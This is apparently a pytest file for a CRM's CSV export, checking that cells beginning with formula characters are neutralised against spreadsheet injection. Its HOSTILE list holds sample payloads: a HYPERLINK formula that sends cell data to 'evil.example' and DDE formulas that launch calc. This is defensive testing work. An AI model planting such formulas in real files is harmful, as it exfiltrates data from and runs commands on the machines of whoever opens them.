"""Exports can't attack a spreadsheet: formulas in names arrive in Excel as text, numbers as numbers.

Anyone who can edit a note (or book under a made-up name) chooses what lands in a CSV the owner opens
in Excel. `export csv`, `customer list --format csv` and `report … --format csv` share one writer:
UTF-8 with the BOM Excel needs, and every cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage
return prefixed with `'` (OWASP), except plain negative numbers.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from service_data import CONFIG

from vaultcrm.exports.csv_tables import neutralise

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("text, expected", [
    ("=1+1", "'=1+1"), ("+86 138 0013 8000", "'+86 138 0013 8000"), ("@SUM(A1)", "'@SUM(A1)"),
    ("-cmd", "'-cmd"), ("-", "'-"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-1+2", "'-1+2"),
    ("-5", "-5"), ("-12.5", "-12.5"), ("0", "0"), ("12.5", "12.5"), ("", ""), ("张三", "张三"), ("a=b", "a=b"),
    ("1-2", "1-2"), ("'=1", "'=1"),
])
def test_neutralise(text, expected):
    assert neutralise(text) == expected


def vaultcrm(root: Path, *args: str, cwd: Path | None = None) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if k != "VAULTCRM_VAULT"}
    return subprocess.run([sys.executable, "-m", "vaultcrm", "--vault", str(root), *args], env=env, cwd=cwd,
                          capture_output=True, timeout=120)


def customer_note(cid: str, name: str, points: int) -> str:
    return f"---\n客户编号: {cid}\n客户姓名: {json.dumps(name, ensure_ascii=False)}\n积分: {points}\n---\n"


@pytest.fixture
def studio(tmp_path):
    """Customers with formula names, booked and served through the CLI; one with -5 points."""
    root = tmp_path / "vault"
    (root / "客户").mkdir(parents=True)
    (root / "vaultcrm.yaml").write_text(CONFIG, encoding="utf-8")
    (root / "客户" / "C-0001 负分.md").write_text(customer_note("C-0001", "负分", -5), encoding="utf-8")
    for i, name in enumerate(HOSTILE):
        booked = vaultcrm(root, "book", f"--customer={name}", f"--phone=1390000{i:04d}", "--date", "2026-02-13",
                          "--time", f"{10 + i}:00", "--service", "全身推拿", "--note=" + name,
                          "--at", "2026-02-12 09:00")
        assert booked.returncode == 0, booked.stderr.decode()
        logged = vaultcrm(root, "log", f"APP-2026-{i + 1:03d}", "--todo=" + name, "--at", f"2026-02-13 {11 + i}:05")
        assert logged.returncode == 0, logged.stderr.decode()
    return root


def parse(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), data[:20]
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            if value.startswith(DANGEROUS_START):
                assert value.lstrip("-").replace(".", "", 1).isdigit(), (value, row)


def assert_all_names_kept(rows: list[list[str]]) -> None:
    cells = {value for row in rows for value in row}
    for name in HOSTILE:
        assert "'" + name.strip() in cells, name  # names are stored trimmed: the tab and CR go


def files_of(folder: Path) -> set[str]:
    return {str(p.relative_to(folder)) for p in folder.rglob("*")}


def test_export_csv_defaults_to_the_state_folder_and_neutralises_cells(studio, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    notes_before = {p for p in files_of(studio) if not p.startswith(".vaultcrm")}
    result = vaultcrm(studio, "export", "csv", cwd=elsewhere)
    assert result.returncode == 0, result.stderr.decode()
    exports = studio / ".vaultcrm" / "exports"
    assert sorted(p.name for p in exports.iterdir()) == ["客户.csv", "服务记录.csv", "跟进.csv", "预约.csv"]
    assert {p for p in files_of(studio) if not p.startswith(".vaultcrm")} == notes_before  # nothing among the notes
    assert files_of(elsewhere) == set()  # nothing in the current folder
    customers = parse((exports / "客户.csv").read_bytes())
    assert_inert(customers)
    assert_all_names_kept(customers)
    header = customers[0]
    points = {row[header.index("客户姓名")]: row[header.index("积分")] for row in customers[1:]}
    assert points["负分"] == "-5"  # a number stays a number
    for name in ("预约.csv", "服务记录.csv", "跟进.csv"):
        rows = parse((exports / name).read_bytes())
        assert_inert(rows)
        assert_all_names_kept(rows)


def test_export_csv_out_writes_where_the_user_says(studio, tmp_path):
    chosen = tmp_path / "给会计"
    result = vaultcrm(studio, "export", "csv", "--out", str(chosen))
    assert result.returncode == 0, result.stderr.decode()
    assert sorted(p.name for p in chosen.iterdir()) == ["客户.csv", "服务记录.csv", "跟进.csv", "预约.csv"]
    assert not (studio / ".vaultcrm" / "exports").exists()
    assert_inert(parse((chosen / "预约.csv").read_bytes()))


def test_customer_list_csv(studio):
    result = vaultcrm(studio, "customer", "list", "--format", "csv", "--at", "2026-02-14")
    assert result.returncode == 0, result.stderr.decode()
    rows = parse(result.stdout)
    assert_inert(rows)
    assert_all_names_kept(rows)


@pytest.mark.parametrize("kind", ["customers", "technicians", "services"])
def test_report_csv(studio, kind):
    result = vaultcrm(studio, "report", kind, "--month", "2026-02", "--format", "csv", "--at", "2026-03-01 09:00")
    assert result.returncode == 0, result.stderr.decode()
    rows = parse(result.stdout)
    assert_inert(rows)
    if kind == "customers":
        assert_all_names_kept(rows)
